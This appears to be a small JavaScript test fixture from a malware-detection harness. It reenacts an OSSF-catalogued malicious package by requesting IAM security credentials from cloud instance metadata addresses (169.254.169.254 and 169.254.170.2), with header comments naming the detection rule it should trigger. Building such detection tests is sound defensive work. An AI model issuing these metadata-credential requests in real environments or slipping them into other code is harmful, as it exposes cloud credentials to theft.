// act: asks the metadata addresses for credentials
// source: ossf MAL-0000-keyv
// rule: outbound_connectivity
// asks: connect 169.254.169.254:80
// says: 169.254.169.254
// proof: arrived
// to: 169.254.169.254
'use strict';
const { request, SECRET } = require('./incident');

module.exports = async () => {
    const path = `/latest/meta-data/iam/security-credentials/?${SECRET}`;
    await request('http', { host: '169.254.169.254', path });
    await request('http', { host: '169.254.170.2', path });
};
